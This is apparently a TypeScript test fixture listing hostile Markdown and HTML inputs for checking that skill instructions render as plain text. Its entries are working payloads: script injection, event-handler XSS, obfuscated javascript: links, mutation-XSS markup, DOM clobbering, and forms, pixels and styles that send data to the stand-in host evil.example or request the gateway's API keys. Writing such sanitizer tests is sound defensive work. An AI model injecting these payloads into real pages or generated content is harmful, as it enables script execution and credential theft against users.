// Malicious texts in skill instructions. All of them must be displayed as plain text.

/** By kind of attack. Code would call `alert`, and requests would go to evil.example. */
export const HOSTILE: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "a script in capitals, over lines": '<SCRIPT\nSRC="https://evil.example/x.js">\n</SCRIPT >',
  "a script that Markdown splits": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "a picture that fails": "<img src=x onerror=alert(1)>",
  "a picture inline in a sentence": 'Text <img/src="x"/onerror="alert(1)"> more text.',
  "a picture with two attributes of one name": '<img src="x" src="https://evil.example/" onerror="alert(1)">',
  "a far picture in Markdown": "![x](https://evil.example/pixel.png)",
  "a picture without a scheme": "![x](//evil.example/pixel.png)",
  "a far picture by reference": "![x][far]\n\n[far]: https://evil.example/pixel.png",
  "a picture of the API": "![x](/api/v1/me) ![y](/console/api/v1/me) ![z](../../../../api/v1/keys)",
  "a picture as data":
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) <img src="data:text/html,<script>alert(1)</script>">',
  "an SVG": '<svg onload="alert(1)"><a href="javascript:alert(2)"><text>x</text></a></svg>',
  "an SVG that animates an address":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  "an SVG that uses another": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  "MathML and a style in it": "<math><mtext><style>*{background:url(https://evil.example/css)}</style></mtext></math>",
  "markup that parsers repair":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "a noscript that parsers read in two ways": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "a template": '<template shadowrootmode="open"><script>alert(1)</script></template>',
  "a frame": '<iframe src="https://evil.example/frame" srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "an object and an embed": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  "a base": '<base href="https://evil.example/">\n\n[x](y)',
  "a meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  "a link to a style": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "a style": "<style>@import url(https://evil.example/x.css); .top { display: none }</style>",
  "a style on an element": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</p>',
  "a form":
    '<form action="https://evil.example/"><input name="key" autofocus onfocus=alert(1)><button>Sign in</button></form>',
  "a button of another form": '<button form="console" formaction="https://evil.example/">Sign out</button>',
  "a dialog over the page": "<dialog open>Your session has ended. Your key:</dialog>",
  media:
    '<video src="https://evil.example/v" poster="https://evil.example/p" onerror=alert(1)></video><audio src="https://evil.example/a" autoplay>',
  "a picture with sources":
    '<picture><source srcset="https://evil.example/x"><img src="x" srcset="https://evil.example/y 2x"></picture>',
  "a details that runs": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "a marquee": "<marquee onstart=alert(1) onfinish=alert(2)>x</marquee>",
  "elements with names of the page":
    '<form id="document"><input name="cookie"></form><img name="location"><a id="console" href="https://evil.example/">x</a>',
  "elements with names of objects":
    '<form name="__proto__"><input name="constructor"></form><a id="Object" name="prototype">x</a>',
  "a link that runs": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z]( javascript:alert(1))",
  "a link that runs, disguised":
    "[x](java&#10;script:alert(1)) [y](&#x6a;avascript:alert(1)) [z](java%0ascript:alert(1)) [w](\\u0001javascript:alert(1))",
  "a link that runs, by reference": "[x][run]\n\n[run]: javascript:alert(1)",
  "a link in pointed brackets": "<javascript:alert(1)> <https://evil.example/auto> <data:text/html,x>",
  "links of other schemes":
    "[a](vbscript:x) [b](data:text/html,x) [c](blob:https://evil.example/x) [d](file:///etc/passwd) [e](intent://x) [f](view-source:https://evil.example)",
  "a link that ends an attribute": '[x](https://example.com/"onmouseover="alert(1))',
  "a title that ends an attribute": "[x](https://example.com/ '\"onmouseover=alert(1) x=\"')",
  "links of the gateway's own":
    "[a](/console/api/v1/keys) [b](/oauth/authorize) [c](//evil.example) [d](\\\\evil.example) [e](/\\evil.example) [f](#console)",
  "a table of markup":
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | [y](javascript:alert(1)) |",
  "a footnote with another's name": 'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note',
  "code that is markup": '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  "a comment that never ends": "<!-- <script>alert(1)</script> --!><img src=x onerror=alert(1)>",
  "a processing instruction and CDATA":
    "<?xml-stylesheet href='https://evil.example/x'?> <![CDATA[<script>alert(1)</script>]]>",
  "a nest of quotes": `${"> ".repeat(200)}<img src=x onerror=alert(1)>`,
  "a nest of brackets": `${"[".repeat(1_000)}x${"](javascript:alert(1))".repeat(1_000)}`,
  "a nest of elements": `${"<div>".repeat(500)}<script>alert(1)</script>`,
  "letters that turn and hide":
    "# \u202Egpj.exe\u202C \u2066x\u2069 \u{E0041}\u{E0042}\u{E007F} a\u200Bb\u00ADc \uFEFF\u3164",
  "an address in letters of another script":
    "[https://example.com](https://еxample.com/) [x](https://evil.example/@example.com)",
};
